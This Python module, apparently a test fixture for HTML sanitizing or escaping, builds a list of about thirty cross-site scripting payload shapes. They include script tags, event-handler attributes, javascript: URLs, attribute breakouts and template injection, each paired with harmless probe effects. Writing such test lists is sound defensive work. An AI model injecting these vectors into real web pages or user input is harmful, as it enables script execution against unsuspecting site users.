"""Texts that would run a script wherever a page takes one for markup, a link for a link, or an attribute unquoted.

Each shape tries to set `window.__xss` and, once more, to open a dialog.
"""

from __future__ import annotations

EFFECTS = ("window.__xss=1", "alert(1)")
SHAPES = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "</p><script>{run}</script><p>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</script><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<img/src=x/onerror={run}//",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    '<iframe src="javascript:parent.{run}"></iframe>',
    '<object data="javascript:{run}"></object>',
    '<a href="javascript:{run}" autofocus onfocus={run}>here</a>',
    "javascript:{run}",
    '" autofocus onfocus="{run}" x="',
    "' autofocus onfocus='{run}' x='",
    '"><img src=x onerror={run}>',
    "&lt;img src=x onerror={run}&gt;<img src=x onerror={run}>",
    "{{{{constructor.constructor('{run}')()}}}}{{% for x in y %}}",
    '<div hx-get="/console/" hx-trigger="load" hx-on::after-request="{run}" hx-vals="js:{{a:{run}}}"></div>',
    "<form><button formaction=javascript:{run} autofocus onfocus={run}>ok</button></form>",
)
PAYLOADS = tuple(shape.format(run=run) for shape in SHAPES for run in EFFECTS)
